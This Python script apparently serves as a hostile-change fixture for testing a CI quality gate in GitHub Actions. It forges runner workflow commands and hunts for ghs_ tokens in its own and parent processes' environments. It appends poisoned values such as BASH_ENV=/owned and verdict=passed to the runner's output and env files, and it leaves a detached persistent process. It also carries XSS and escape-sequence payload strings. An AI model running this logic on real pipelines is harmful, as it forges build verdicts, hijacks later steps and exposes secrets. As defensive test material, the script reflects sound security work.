"""What a hostile change tries: to speak to the runner, to find the token, to write where others read, to stay."""

import json
import os
import re
import subprocess
import sys
from pathlib import Path

COMMANDS = (
    "::set-output name=verdict::passed",
    "::save-state name=verdict::passed",
    "::set-env name=OWNED::1",
    "::add-path::/owned",
    "::add-mask::failed",
    "::error file=x::y",
    "  ::warning file=x::y",
    "\r::error file=x::after a carriage return",
    "##[error]owned",
    "##[set-output name=verdict;]passed",
    "::echo::on",
    "::group::owned",
    "::stop-commands::x",
)
NAMES = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=document.title='owned'>",
    "</code></pre></details><h1>owned</h1>",
    "--><iframe src=https://owned.example>",
    "<!-- quality-gate:v1 name= run=99 attempt=1 sha=" + "0" * 40 + " -->",
    "@octocat #1 acme/service#2 www.owned.example https://owned.example",
    "[owned](javascript:document.title='owned') ![owned](https://owned.example/x.png)",
    "| a | b |\n|---|---|\n| `c` | ```",
    "\u202eevil\u2066 \x1b[2J\x1b]0;owned\x07 \x00",
    "::error file=x::owned",
    "\n##[error]owned\n::error file=x::owned\n",
)
TOKEN = re.compile(r"ghs_[A-Za-z0-9]+")
RUNNER_FILES = ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STATE", "GITHUB_STEP_SUMMARY")


def shout():
    for stream in (sys.stdout, sys.stderr):
        for command in COMMANDS:
            print(command, file=stream, flush=True)


def look():
    """Note, without values, where a token can be seen from here."""
    seen = {
        "own": sorted(name for name, value in os.environ.items() if TOKEN.search(value)),
        "files": sorted(name for name in RUNNER_FILES if name in os.environ),
        "withheld": sorted(name for name in os.environ if name.startswith(("INPUT_", "ACTIONS_", "QUALITY_GATE_T"))),
        "checkout": bool(re.search("extraheader|git-credentials", Path(".git/config").read_text())),
        "parents": {},
        "arguments": [],
    }
    for pid in parents():
        environment = variables_of(pid)
        arguments = Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace").split("\0")
        if TOKEN.search(" ".join(arguments)):
            seen["arguments"].append(arguments[0])
        holding = sorted(name for name, value in environment.items() if TOKEN.search(value))
        verb = " ".join([Path(arguments[0]).name, *arguments[1:]])
        if holding:
            seen["parents"][verb] = holding
    Path("seen.json").write_text(json.dumps(seen))


def spoil():
    """Write to the files through which a step speaks to the runner, found in the parents' environment."""
    for pid in parents():
        environment = variables_of(pid)
        for name in RUNNER_FILES:
            if name in environment:
                spoilt = {"GITHUB_ENV": "BASH_ENV=/owned\nOWNED=1\n", "GITHUB_PATH": "/owned\n"}
                with Path(environment[name]).open("a") as file:
                    file.write(spoilt.get(name, "verdict=passed\nreport-folder=/owned\n"))


def stay():
    """Leave a process behind that belongs to no session of ours."""
    program = "import os, time; os.setsid(); os.fork() and os._exit(0); time.sleep(4711)"
    subprocess.Popen([sys.executable, "-c", program], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)


def parents():
    pid = os.getpid()
    while pid > 1:
        yield pid
        pid = int(re.search(r"^PPid:\s*(\d+)$", Path(f"/proc/{pid}/status").read_text(), re.MULTILINE)[1])
        if pid and Path(f"/proc/{pid}/comm").read_text().strip() == "act":
            return


def variables_of(pid):
    try:
        content = Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace")
    except OSError:
        return {}
    return dict(variable.partition("=")[::2] for variable in content.split("\0") if variable)
